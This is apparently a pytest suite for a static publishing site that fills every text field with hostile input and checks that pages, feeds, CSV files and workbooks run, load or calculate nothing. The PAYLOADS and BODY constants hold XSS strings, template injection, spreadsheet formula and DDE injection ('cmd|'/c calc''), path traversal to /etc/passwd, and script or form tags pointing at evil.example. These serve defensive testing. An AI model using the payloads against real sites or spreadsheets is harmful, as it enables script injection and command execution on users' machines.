"""Whatever is written in a field, a body, a cell or a name comes out as text: nothing of it runs, loads or styles."""

import csv
import io
import json
import re
from base64 import b64encode
from hashlib import sha256
from itertools import cycle
from pathlib import Path
from zipfile import ZipFile

import feedparser
import pytest
from lxml import etree
from openpyxl import load_workbook
from rdflib import Graph

from disclosure.pipeline.scripts import read_inline, read_short
from disclosure.rendering.assets import inline
from support.pages import Page, read_pages
from support.rich import GUIDE, PERSONAL
from support.sites import CHECKOUT, FOLDER, PUBLISHERS, dump, identifier, item, new_site, page, path

# rdflib's own reader still uses a class that rdflib has deprecated.
pytestmark = pytest.mark.filterwarnings("ignore:ConjunctiveGraph is deprecated")

PAYLOADS = (
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    '" onfocus="alert(1)" style="color:red" y="',
    "</title></textarea></script><script src=//evil.example/x.js></script>",
    "<svg/onload=alert(1)><style>*{display:none}</style>",
    "javascript:alert(1)",
    "{{7*7}}{% for x in y %}${7*7}<%= 7*7 %>",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<script>--><iframe srcdoc='<script>alert(1)</script>'>",
    "\u200f<b onclick=alert(1)>\ufeff\u200b\ufdd0",
    "]]></title><![CDATA[<x>]]><!-- -- -->",
    "</script><script>alert(1)</script>",
    "＝1+1",
    "\u200b=1+1",
    "＠SUM(1)" + "长" * 5000,
    "../../../etc/passwd%00",
    "&#0;&#x1F;&bogus;",
)
BODY = """\
<script>alert(1)</script> <img src="x" onerror="alert(1)"> <a href="javascript:alert(1)">甲</a>
<a href="JaVa&#x0A;ScRiPt:alert(1)">乙</a> [丙](javascript:alert%281%29) [丁](data:text/html,<script>) <base href="//evil.example/">
<iframe src="//evil.example"></iframe><object data="x"></object><form action="//evil.example"><input name=q></form>
<div style="background:url(javascript:alert(1))" onclick="alert(1)" id="main" class="top">戊</div><style>body{}</style>
<svg><a xlink:href="javascript:alert(1)"><text>己</text></a></svg><math href="javascript:alert(1)">庚</math>
<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example">
![辛](javascript:alert(1)) ![壬](https://evil.example/track.png) <img src="https://evil.example/t.gif"> {{7*7}}

```html
<script>alert(1)</script>
```

# "><script>alert(1)</script>

| <script>x</script> | `onload=` |
|--|--|
| <img src=x onerror=alert(1)> | =1+1 |
"""
TEXTS = PERSONAL.replace("type: identifier", "type: text")
FORBIDDEN = {"iframe", "object", "embed", "base", "style", "math", "frame", "applet", "template"}
SCHEMAS = CHECKOUT / "tests" / "support" / "schemas"
ALLOWED_SCHEMES = {"", "http", "https", "mailto", "tel"}


def hostile_properties() -> dict[str, object]:
    texts = cycle(PAYLOADS)
    several = [next(texts) for _ in PAYLOADS]
    guide = {
        **GUIDE,
        "conditions": BODY,
        "procedure": BODY,
        "basis": several,
        "materials": [{"name": text, "source": text} for text in several],
        "places": [{"place": text, "address": text, "hours": text} for text in several],
    }
    plain = ("service_name", "quantity", "sample_form", "responsible", "summary", "title")
    return {
        **guide,
        **{name: next(texts) for name in plain},
        "issuers": several,
        "audience": several,
        "keywords": several,
        "source": {
            "type": "reprint",
            "name": next(texts),
            "url": "https://e.example/?a=1&b=%3Cx%3E",
        },
        "corrections": [{"date": "2026-11-10", "note": text} for text in several],
        "relations": [
            {"type": "interprets", "to": identifier(2), "note": text} for text in several[:1]
        ],
        "attachments": [
            {"file": "a'onclick='alert(1)'.pdf", "title": several[0]},
            {"file": "b%22%3E%3Cscript%3E&amp;#.pdf", "title": several[1]},
        ],
        "aliases": [
            several[0],
            "javascript:alert(1)",
            "/old/<script>/",
            "http://e.example/'x/\"y/",
        ],
        "document_number": several[4],
    }


def hostile_tables() -> dict[str, str | bytes]:
    out = io.StringIO()
    # Keys that differ in punctuation alone are an error of their own.
    rows = [[f"{text} {number}", text, text] for number, text in enumerate(PAYLOADS)]
    csv.writer(out).writerows([["编号", "姓名", "证件"], *rows])
    return {
        path(3): item(
            3, BODY, kind="roster", data="名册.csv", display_until="2027-11-01", title=PAYLOADS[1]
        ),
        f"content/{FOLDER}/名册.csv": out.getvalue(),
        path(4): item(4, BODY, kind="open-list", data="名册.csv"),
        "catalog/kinds/roster.yaml": TEXTS,
        "catalog/kinds/open-list.yaml": TEXTS.replace("roster", "open-list")
        .replace("label: 名册", "label: 公开名册")
        .replace("personal: true", "personal: false")
        .replace("page", "all"),
    }


def hostile_catalogue() -> dict[str, str | bytes]:
    texts = cycle(PAYLOADS)
    own = {
        "id": "odd",
        "names": [{"name": next(texts), "short": next(texts)}],
        "type": "department",
        "parents": [{"id": "yangguang"}],
        "contact": {
            key: next(texts) for key in ("office", "address", "hours", "phone", "fax", "email")
        },
        "functions": [next(texts), next(texts)],
    }
    kind = {"label": PAYLOADS[2], "label_en": "x", "description": PAYLOADS[3]}
    field = {
        "code": "x-66",
        "slug": "odd",
        "label": PAYLOADS[0],
        "label_en": "x",
        "notes": PAYLOADS[1],
    }
    matter = {
        "code": "x-66-01-01",
        "level1": PAYLOADS[2],
        "level2": PAYLOADS[4],
        "content": [*PAYLOADS],
    }
    return {
        "catalog/publishers.yaml": PUBLISHERS + dump([own]),
        "catalog/kinds/notice.yaml": dump({"kind": kind}),
        "catalog/fields/x-odd.yaml": dump(
            {"field": field | {"group": "local"}, "matters": [matter]}
        ),
        path(5): item(5, publisher="odd", matter="x-66-01-01"),
        path(6): item(6, title="=1+1", summary="@SUM(A1)", document_number="+cmd|' /c x'!A0"),
    }


def hostile_lives() -> dict[str, str | bytes]:
    """Every text as the title of an item that is live, on request, ended, or withdrawn in favour of another."""
    files: dict[str, str | bytes] = {}
    events = []
    for number, text in enumerate(PAYLOADS, 20):
        title = text[:60]
        gone = {"date": "2026-11-15", "reason": "replaced", "to": identifier(number)}
        facts: dict[str, object] = {"title": title, "summary": text[:90], "keywords": [text]}
        lives: tuple[dict[str, object], ...] = (
            {"dossier": [{"name": title, "public": "是"}]},
            {"mode": "on-request"},
            {"display_until": "2026-11-15"},
            {"withdrawn": gone},
        )
        for hundreds, life in enumerate(lives):
            own = number + 100 * hundreds
            files[path(own)] = item(own, **(facts | life))
        for event in ("released", "revised"):
            told = {"time": "2026-11-10T09:30", "identifier": identifier(number), "event": event}
            events.append(json.dumps(told | {"public": text[:60]}, ensure_ascii=False))
    return {**files, "content/_releases.jsonl": "\n".join(events)}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, kept_frames: Path) -> dict[str, bytes]:
    """The files of a site whose every text was written by an enemy."""
    site = new_site(tmp_path_factory.mktemp("hostile"), kept_frames)
    site.write(
        {path(1): item(1, BODY, **hostile_properties()), path(2): item(2, title=PAYLOADS[0])}
    )
    site.write({f"content/{FOLDER}/a'onclick='alert(1)'.pdf": b"%PDF-1.7"})
    site.write({f"content/{FOLDER}/b%22%3E%3Cscript%3E&amp;#.pdf": b"%PDF-1.7"})
    site.write(hostile_tables()).write(hostile_catalogue()).write(hostile_lives())
    own = (site.root / "catalog" / "site.yaml").read_text(encoding="utf-8")
    own = re.sub(r"^(name|short_name): .*\n", "", own, flags=re.MULTILINE)
    site.write({"catalog/site.yaml": own + dump({"name": PAYLOADS[0], "short_name": "<&>"})})
    site.sign()
    result = site.build(keep_going=True)
    errors = [(d.path, d.line, d.code) for d in result.diagnostics if d.severity == "error"]
    assert errors == []
    return site.published()


@pytest.fixture(scope="module")
def pages(hostile: dict[str, bytes]) -> list[Page]:
    """Every page of it."""
    return read_pages(hostile)


def test_all_items_are_there(hostile: dict[str, bytes]) -> None:
    assert {page(n) for n in range(1, 7)} <= hostile.keys()


def test_scripts_are_those_of_the_theme(pages: list[Page]) -> None:
    within = {p.path: text for p in pages for tag, text in p.texts if tag == "script" and text}
    theme = CHECKOUT / "theme"
    goes_out = inline(read_inline(theme / "inline" / "early.js"), read_short(theme))
    assert within == {"search/index.html": goes_out}
    sources = {a.get("src", "") for p in pages for a in p.attributes("script")}
    own = re.compile(r"(?:\.\./)*(?:\./)?/?assets/(?:js/[a-z-]+|search/client)\.js|")
    assert {source for source in sources if not own.fullmatch(source)} == set()


def test_policy_lets_no_script_run_but_the_sites_own(pages: list[Page]) -> None:
    """A script within a page runs only if its very text is the one that the policy names."""
    for page_ in pages:
        policies = [
            a.get("content", "")
            for a in page_.attributes("meta")
            if a.get("http-equiv") == "Content-Security-Policy"
        ]
        texts = [text for tag, text in page_.texts if tag == "script" and text]
        hashes = [f"'sha256-{b64encode(sha256(t.encode()).digest()).decode()}'" for t in texts]
        assert [re.findall(r"script-src ([^;]*)", policy) for policy in policies] == [
            [" ".join(("'self'", *hashes))]
        ], page_.path


def test_no_attribute_runs_or_styles(pages: list[Page]) -> None:
    found = {
        (p.path, tag, name)
        for p in pages
        for tag, attributes in p.elements
        for name in attributes
        if name.startswith("on") or name in {"style", "srcdoc", "xlink:href", "formaction"}
    }
    assert found == set()


def test_no_element_loads_from_elsewhere(pages: list[Page]) -> None:
    found = {(p.path, tag) for p in pages for tag, _ in p.elements if tag in FORBIDDEN}
    # The search page keeps the parts its script fills in a template of its own.
    assert found <= {("search/index.html", "template")}
    loading = {
        (p.path, tag, address)
        for p in pages
        for tag, address in p.addresses()
        if tag != "a" and re.match(r"(?:[a-z]+:)?//", address.strip()) and tag != "link"
    }
    assert loading == set()
    links = {a["href"] for p in pages for a in p.attributes("link") if a.get("rel") != "canonical"}
    assert {href for href in links if "//" in href} == set()


def test_no_address_runs(pages: list[Page]) -> None:
    schemes = {
        (p.path, scheme)
        for p in pages
        for _, address in p.addresses()
        if (
            scheme := re.match(r"(?:([a-z][a-z0-9+.-]*):)?", "".join(address.split()).lower())[1]
            or ""
        )
        not in ALLOWED_SCHEMES
    }
    assert schemes == set()


def test_redirects_stay_on_the_site(pages: list[Page]) -> None:
    leading = [
        a["content"]
        for p in pages
        for a in p.attributes("meta")
        if a.get("http-equiv", "").lower() == "refresh"
    ]
    assert [
        target for target in leading if not re.fullmatch(r"0;url=(?:\.\./)+d/[a-z0-9-]+/", target)
    ] == []


def test_ids_of_bodies_are_not_those_of_the_page(pages: list[Page]) -> None:
    twice = {(p.path, i) for p in pages for i in p.ids if p.ids.count(i) > 1}
    assert twice == set()


def test_pages_are_well_formed(pages: list[Page]) -> None:
    assert [(p.path, p.faults) for p in pages if p.faults] == []


def test_templates_in_texts_are_not_run(hostile: dict[str, bytes]) -> None:
    assert b"{{7*7}}" in hostile[page(1)]
    assert [name for name, data in hostile.items() if b"49${" in data] == []


def test_data_is_harmless_wherever_it_is_pasted(hostile: dict[str, bytes]) -> None:
    raw = [
        name
        for name, data in hostile.items()
        if name.endswith((".json", ".jsonl")) and re.search(rb"[<>&]", data)
    ]
    assert raw == []
    for name, data in hostile.items():
        if name.endswith(".json"):
            json.loads(data)


def test_cells_are_no_formulas(hostile: dict[str, bytes]) -> None:
    cells = [
        cell
        for name, data in hostile.items()
        if name.endswith(".csv")
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        for cell in row
    ]
    assert "'=1+1" in cells
    assert "'＝1+1" in cells
    assert [cell for cell in cells if re.match(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠]", cell)] == []


def test_lines_of_data_are_cut_at_line_feeds_alone(hostile: dict[str, bytes]) -> None:
    for name, data in hostile.items():
        if name.endswith(".jsonl"):
            assert len([json.loads(line) for line in data.decode().splitlines()]) == data.count(
                b"\n"
            )


def test_files_for_machines_are_valid(hostile: dict[str, bytes]) -> None:
    sitemap = etree.XMLSchema(etree.parse(SCHEMAS / "sitemap.xsd"))
    atom = etree.RelaxNG(etree.parse(SCHEMAS / "atom.rng"))
    count = dict.fromkeys((".xml", ".atom"), 0)
    for name, data in hostile.items():
        if name.endswith((".xml", ".atom")):
            document = etree.fromstring(data)
            count[f".{name.rpartition('.')[2]}"] += 1
            if name.startswith("sitemap"):
                sitemap.assertValid(document)
            if name.endswith(".atom"):
                atom.assertValid(document)
                assert not feedparser.parse(data).bozo
    assert count[".xml"] > 3
    assert count[".atom"] > 3
    assert "opensearch.xml" in hostile


def test_titles_come_out_of_feeds_as_they_were_written(hostile: dict[str, bytes]) -> None:
    feed = etree.fromstring(hostile["feeds/publishers/civil-affairs.atom"])
    told = {e.text for e in feed.iter("{http://www.w3.org/2005/Atom}title")}
    assert {text[:60] for text in PAYLOADS if text.strip() == text} & told
    twins = json.loads(hostile["feeds/publishers/civil-affairs.json"])["items"]
    assert {one["title"] for one in twins} <= told


def test_linked_data_is_read_by_others(hostile: dict[str, bytes]) -> None:
    for name in ("catalog.jsonld", "catalogue.skos.jsonld", "organizations.jsonld"):
        data = hostile[f"api/v1/{name}"].decode()
        assert len(Graph().parse(data=data, format="json-ld")) > 3


def test_packed_files_are_well_formed(hostile: dict[str, bytes]) -> None:
    packed = {name: data for name, data in hostile.items() if name.endswith((".docx", ".xlsx"))}
    assert {name.rpartition(".")[2] for name in packed} == {"docx", "xlsx"}
    for data in packed.values():
        with ZipFile(io.BytesIO(data)) as archive:
            for part in archive.namelist():
                assert etree.fromstring(archive.read(part)) is not None


def test_workbooks_hold_no_formulas(hostile: dict[str, bytes]) -> None:
    books = [data for name, data in hostile.items() if name.endswith("/list.xlsx")]
    assert len(books) > 5
    for data in books:
        for sheet in load_workbook(io.BytesIO(data)):
            kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
            assert kinds <= {"s", "n", "inlineStr"}
